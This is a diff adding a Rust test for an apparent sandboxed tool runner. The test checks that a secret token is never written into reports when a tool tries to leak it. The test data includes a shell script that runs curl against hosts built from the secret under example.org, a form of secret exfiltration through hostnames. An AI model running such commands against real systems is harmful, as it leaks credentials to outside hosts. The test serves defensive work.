@@ -149,6 +149,30 @@ fn the_command_line_asks_for_a_network_too() {
 }
 
 #[test]
+fn a_secret_that_a_tool_puts_into_a_name_is_not_written_down() {
+    let site = site(&["*".to_owned()]);
+    let secret = "s3cr3t-Value";
+    let manifest = format!(
+        "[tool]\nname = \"fetch\"\nversion = \"1\"\ndescription = \"Uses a secret\"\nbinary = \"sh\"\n[sandbox]\nnetwork = true\n[command]\n\
+         exec = [\"sh\", \"in/use\", \"{{_secret:token}}\"]\n[output]\nformat = \"text\"\nparser = \"builtin:text\"\n\
+         [output.schema]\ntype = \"object\"\n"
+    );
+    site.manifest("fetch", &manifest);
+    let script = "curl -s http://$1.example.org/ https://$1_.example.org/ https://other.example.org/\ntrue\n";
+    let request = asking("secret", &["api.example.org:443".to_owned()]).input("use", script.as_bytes());
+    site.rename_in(&request);
+    let site = site.with_variable("TOOLCLAD_SECRET_TOKEN", secret);
+    site.up();
+    let bundle = site.result(&request.id);
+    assert_eq!(bundle.code(), "", "{}", bundle.document());
+    assert_eq!(bundle.evidence()["network"]["refused"], Value::from(vec!["other.example.org:443"]));
+    let told = bundle.document().to_lowercase() + &bundle.read("evidence.json").to_lowercase();
+    assert!(!told.contains(&secret.to_lowercase()), "{told}");
+    assert!(told.contains("refused besides, and not named here: 1."));
+    assert!(told.contains("no host and port: 1."));
+}
+
+#[test]
 fn a_hostile_tool_reaches_nothing_else_and_its_attempts_are_told() {
     let port = server();
     let listed = [format!("localhost:{port}"), "127.0.0.1:9".to_owned()];
